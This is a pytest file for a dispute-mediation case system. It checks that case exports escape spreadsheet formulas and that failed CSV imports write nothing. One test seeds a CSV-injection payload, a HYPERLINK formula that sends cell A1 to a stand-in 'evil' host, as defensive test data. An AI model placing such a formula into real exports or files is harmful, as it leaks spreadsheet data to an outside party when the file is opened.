"""Exports write no formulas (CSV injection), and an import with a bad byte or a failure while
writing keeps nothing."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from mediation.cases.models import Case
from mediation.core.errors import Conflict
from tests.api.conftest import Api
from tests.helpers import count


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_exports_never_write_formulas(client, users, make_case, make_enterprise, fmt):
    evil = make_enterprise("G1", name='=HYPERLINK("http://evil/"&A1,"x")')
    make_case(enterprise_id=evil.id, title="=1+2")
    make_case(title="@SUM(1)")
    response = Api(client).get(f"/cases/export?format={fmt}", as_=users["mediator"])
    assert response.status_code == 200
    if fmt == "csv":
        cells = [
            c for row in csv.reader(io.StringIO(response.data.decode("utf-8-sig"))) for c in row
        ]
    else:
        sheet = load_workbook(io.BytesIO(response.data)).active
        assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
        cells = [str(c.value) for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c for c in cells if c[:1] in ("=", "+", "@")], cells
    assert "'=1+2" in cells and "'@SUM(1)" in cells


def test_an_import_row_with_nul_is_bad_and_nothing_is_written(
    app, tmp_path, users, make_enterprise
):
    e = make_enterprise("G1")
    header = "类型,案由,统一社会信用代码,诉求,涉及人数,请求金额,欠薪月数,收到申请时间\n"
    data = header + (
        f"dispute,dismissal,{e.credit_code},好行,1,,,2026-03-02\n"
        f"dispute,dismissal,{e.credit_code},坏\x00行,1,,,2026-03-02\n"
    )
    path = tmp_path / "nul.csv"
    path.write_bytes(data.encode("utf-8"))
    result = app.test_cli_runner().invoke(args=["cases", "import", str(path), "--as", "mediator"])
    assert result.exit_code == 1
    assert "3" in result.output  # the line of the bad row
    assert count(Case) == 0


def test_an_import_that_fails_while_writing_keeps_nothing(
    app, tmp_path, users, make_enterprise, monkeypatch
):
    from mediation.cases import importer, imports

    e = make_enterprise("G1")
    header = "类型,案由,统一社会信用代码,诉求,涉及人数,请求金额,欠薪月数,收到申请时间\n"
    rows = "".join(f"dispute,dismissal,{e.credit_code},第{i}行,1,,,2026-03-02\n" for i in range(3))
    checked = importer.check(users["mediator"], (header + rows).encode("utf-8"))
    assert not checked.errors and len(checked.rows) == 3
    real, calls = imports.create_case, []

    def flaky(user, payload, **kw):
        calls.append(1)
        if len(calls) == 3:
            raise Conflict("A concurrent change won; reload and try again.")
        return real(user, payload, **kw)

    monkeypatch.setattr(imports, "create_case", flaky)
    job = imports.submit(users["mediator"], b"", "x.csv", skip_invalid=False)
    job = imports.run_job(job.id, checked=checked)
    assert job.status == imports.ImportStatus.failed
    assert "line 4" in job.message and "nothing was imported" in job.message
    assert job.imported_rows == 0 and job.numbers == []
    assert count(Case) == 0
    assert count(imports.ImportStagedRow) == 0
